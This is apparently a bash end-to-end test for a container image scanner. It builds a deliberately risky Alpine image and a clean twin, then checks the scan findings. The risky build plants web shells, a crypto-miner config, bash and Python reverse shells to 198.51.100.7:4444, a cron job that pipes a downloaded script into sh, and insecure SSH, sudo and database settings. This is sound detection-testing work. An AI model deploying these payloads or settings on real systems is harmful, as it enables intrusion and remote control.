#!/bin/bash
# End to end: buildah builds an image (tests/data/checks/image/Dockerfile.risky)
# on the Alpine 3.20 minirootfs that plants one case of every baseline, build
# and malware rule; drydock must find each with the right rule, path, layer
# and history index. The clean twin (Dockerfile.clean, same shape) must give
# no finding of these classes. Samples are assembled here from pieces, so the
# source tree itself matches no malware rule.
. "$DD_SOURCE_DIR/tests/lib/common.sh"
need_cmd buildah
need_cmd openssl
need_shared images/alpine
rootfs="$DD_SHARED_DIR/data/images/alpine/alpine-minirootfs-3.20.3-x86_64.tar.gz"
[ -f "$rootfs" ] || skip "Alpine 3.20 minirootfs is absent"
img="$DD_TEST_DATA/checks/image"
B=(buildah --storage-driver vfs --root "$TMP/storage" --runroot "$TMP/run")
cleanup_hooks+=("${B[*]} rm --all >/dev/null 2>&1")

ctx() { # ctx DIR: a build context with the Alpine files we modify
	mkdir -p "$1/overlay/etc" "$1/samples" "$1/eicar" "$1/base"
	tar -xzf "$rootfs" -C "$1/base" ./etc/shadow ./etc/passwd ./etc/group
}
w() { mkdir -p "$(dirname "$1")"; printf '%s' "$2" > "$1"; }

# ---- the risky context ----
R="$TMP/risky"; ctx "$R"; o="$R/overlay"
{ cat "$R/base/etc/shadow"; echo "guest::19700:0:99999:7:::"
  echo "admin:$(openssl passwd -6 -salt plantedsalt admin123):19700:0:99999:7:::"
  echo "toor:*:19700:0:99999:7:::"; } > "$o/etc/shadow"
{ cat "$R/base/etc/passwd"; echo "guest:x:1000:1000::/home/guest:/bin/sh"
  echo "admin:x:1001:1001::/home/admin:/bin/sh"; echo "toor:x:0:0::/root:/bin/sh"
  echo "twin:x:1001:1001::/home/twin:/bin/sh"; } > "$o/etc/passwd"
{ cat "$R/base/etc/group"; echo "devs:x:100:"; } > "$o/etc/group"
w "$o/etc/sudoers.d/app" $'app ALL=(ALL) NOPASSWD: ALL\n'
w "$o/etc/ssh/sshd_config" $'Include /etc/ssh/sshd_config.d/*.conf\nPermitEmptyPasswords yes\nPasswordAuthentication yes\n'
w "$o/etc/ssh/sshd_config.d/10-root.conf" $'PermitRootLogin yes\n'
w "$o/etc/login.defs" $'PASS_MAX_DAYS 99999\n'
w "$o/etc/redis.conf" $'bind 0.0.0.0\nprotected-mode no\n'
w "$o/etc/mongod.conf" $'net:\n  bindIp: 0.0.0.0\n'
w "$o/etc/elasticsearch/elasticsearch.yml" $'xpack.security.enabled: false\n'
w "$o/etc/memcached.conf" $'-m 64\n-p 11211\n'
w "$o/etc/postgresql/15/main/pg_hba.conf" $'host all all 0.0.0.0/0 trust\n'
w "$o/usr/local/tomcat/conf/tomcat-users.xml" $'<tomcat-users>\n  <user username="tomcat" password="tomcat" roles="manager-gui"/>\n</tomcat-users>\n'
w "$o/etc/ww.conf" $'shared=1\n'; chmod 0666 "$o/etc/ww.conf"
w "$o/etc/ld.so.preload" $'/usr/local/lib/libhide.so\n'
w "$o/usr/local/bin/helper" $'#!/bin/sh\necho helper\n'; chmod 0755 "$o/usr/local/bin/helper"
s="$R/samples"
w "$s/var/www/html/shell.php" "$(printf '%s%s%s' '<?php @ev' 'al($_PO' "ST['x']);?>")"
w "$s/usr/local/tomcat/webapps/ROOT/cmd.jsp" "$(printf '%s%s%s' '<% Runtime.getRun' 'time().exec(request.getPar' 'ameter("c")); %>')"
w "$s/var/www/html/a.asp" "$(printf '%s%s' '<%ev' 'al request("p")%>')"
w "$s/tmp/.x/config.json" "$(printf '%s%s%s' '{"pools":[{"url":"strat' 'um+tcp://pool.example.net:3333"}],' '"donate-level":1}')"
w "$s/opt/m/run.sh" "$(printf '#!/bin/sh\n./xm%s --donate-level 1 --random%s\n' 'rig' 'x-1gb-pages')"; chmod 0755 "$s/opt/m/run.sh"
w "$s/usr/local/bin/upd.sh" "$(printf '#!/bin/bash\nbash -i >& /dev/t%s/198.51.100.7/4444 0>&1\n' 'cp')"; chmod 0755 "$s/usr/local/bin/upd.sh"
w "$s/root/r.py" "$(printf 'import socket,os,pty\ns=socket.sock%s(socket.AF_INET,socket.SOCK_STREAM)\ns.conn%s(("198.51.100.7",4444))\nos.du%s(s.fileno(),0)\npty.sp%s("/bin/sh")\n' 'et' 'ect' 'p2' 'awn')"
w "$s/etc/cron.d/sync" "$(printf '*/5 * * * * root cu%s -fsSL http://198.51.100.7/s.sh | s%s\n' 'rl' 'h')"
w "$s/root/.ssh/authorized_keys" $'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0Gz0jG7G2tW5Zx1vEfmb4nJvYzq2pkKSYhXcMC4b2q planted@build\n'
printf '%s%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$' 'EICAR-STANDARD-ANTI' 'VIRUS-TEST-FILE!$H+H*' > "$R/eicar/eicar.com"
w "$R/local.conf" $'setting=1\n'
cp "$img/Dockerfile.risky" "$R/Dockerfile"

# ---- the clean twin: same paths, safe content ----
C="$TMP/clean"; ctx "$C"; o="$C/overlay"
cp "$C/base/etc/shadow" "$C/base/etc/passwd" "$C/base/etc/group" "$o/etc/"
w "$o/etc/sudoers.d/app" $'app ALL=(root) /usr/bin/systemctl restart app\n'
w "$o/etc/ssh/sshd_config" $'Include /etc/ssh/sshd_config.d/*.conf\nPermitEmptyPasswords no\nPasswordAuthentication no\n'
w "$o/etc/ssh/sshd_config.d/10-root.conf" $'PermitRootLogin no\n'
w "$o/etc/login.defs" $'PASS_MAX_DAYS 90\nPASS_MIN_DAYS 1\nPASS_WARN_AGE 14\nENCRYPT_METHOD YESCRYPT\n'
w "$o/etc/redis.conf" $'bind 127.0.0.1\nprotected-mode yes\nrequirepass long-random-redis-secret\n'
w "$o/etc/mongod.conf" $'net:\n  bindIp: 127.0.0.1\nsecurity:\n  authorization: enabled\n'
w "$o/etc/elasticsearch/elasticsearch.yml" $'xpack.security.enabled: true\n'
w "$o/etc/memcached.conf" $'-m 64\n-p 11211\n-l 127.0.0.1\n'
w "$o/etc/postgresql/15/main/pg_hba.conf" $'host all all 0.0.0.0/0 scram-sha-256\n'
w "$o/usr/local/tomcat/conf/tomcat-users.xml" $'<tomcat-users>\n  <user username="tomcat" password="Qz8!vK2#rT9wLp4m" roles="manager-gui"/>\n</tomcat-users>\n'
w "$o/etc/ww.conf" $'shared=1\n'; chmod 0644 "$o/etc/ww.conf"
w "$o/etc/ld.so.preload" $'# nothing preloaded\n'
w "$o/usr/local/bin/helper" $'#!/bin/sh\necho helper\n'; chmod 0755 "$o/usr/local/bin/helper"
s="$C/samples"
w "$s/var/www/html/shell.php" $'<?php echo htmlspecialchars($_GET[\'q\'] ?? \'\'); ?>'
w "$s/usr/local/tomcat/webapps/ROOT/cmd.jsp" $'<% out.println(request.getParameter("name")); %>'
w "$s/var/www/html/a.asp" $'<% Response.Write("hello") %>'
w "$s/tmp/.x/config.json" $'{"listen":"127.0.0.1:8080","workers":2}'
w "$s/opt/m/run.sh" $'#!/bin/sh\nexec ./server --port 8080\n'; chmod 0755 "$s/opt/m/run.sh"
w "$s/usr/local/bin/upd.sh" $'#!/bin/bash\nexec 3>/dev/null\necho updated >&3\n'; chmod 0755 "$s/usr/local/bin/upd.sh"
w "$s/root/r.py" $'import socket\ns = socket.socket()\ns.connect(("127.0.0.1", 8080))\ns.close()\n'
w "$s/etc/cron.d/sync" $'*/5 * * * * root /usr/local/bin/upd.sh\n'
w "$s/root/.ssh/known_hosts" $'# empty\n'
w "$C/eicar/notes.txt" $'nothing to see\n'
w "$C/local.conf" $'setting=1\n'
cp "$img/Dockerfile.clean" "$C/Dockerfile"

# ---- build ----
mkdir -p "$TMP/base"; cp "$rootfs" "$TMP/base/alpine-minirootfs.tar.gz"; cp "$img/Dockerfile.base" "$TMP/base/Dockerfile"
bud() { "${B[@]}" bud --isolation chroot --layers --format docker -t "$1" "$2" > "$TMP/bud-$(basename "$2").log" 2>&1; }
if ! bud localhost/dd-alpine-base:3.20 "$TMP/base"; then
	tail -5 "$TMP/bud-base.log"; skip "buildah cannot build here (see its log above)"
fi
bud localhost/dd-risky:1 "$R" || { tail -20 "$TMP/bud-risky.log"; fail "building the risky image"; }
bud localhost/dd-clean:1 "$C" || { tail -20 "$TMP/bud-clean.log"; fail "building the clean image"; }
"${B[@]}" push -q localhost/dd-risky:1 "docker-archive:$TMP/risky.tar:localhost/dd-risky:1" >/dev/null 2>&1
"${B[@]}" push -q localhost/dd-clean:1 "docker-archive:$TMP/clean.tar:localhost/dd-clean:1" >/dev/null 2>&1

# ---- scan and check ----
"$DRYDOCK" scan --format json -o "$TMP/risky.json" --scanners baseline,malware,history --no-progress \
	"docker-archive:$TMP/risky.tar" || [ $? -eq 1 ] || fail "scan of the risky image failed"
"$DRYDOCK" scan --format json -o "$TMP/clean.json" --scanners baseline,malware,history --no-progress \
	"docker-archive:$TMP/clean.tar" || fail "scan of the clean image failed"
python3 "$DD_SOURCE_DIR/tests/checks/planted_image_check.py" "$TMP/risky.tar" "$TMP/risky.json" "$TMP/clean.json"
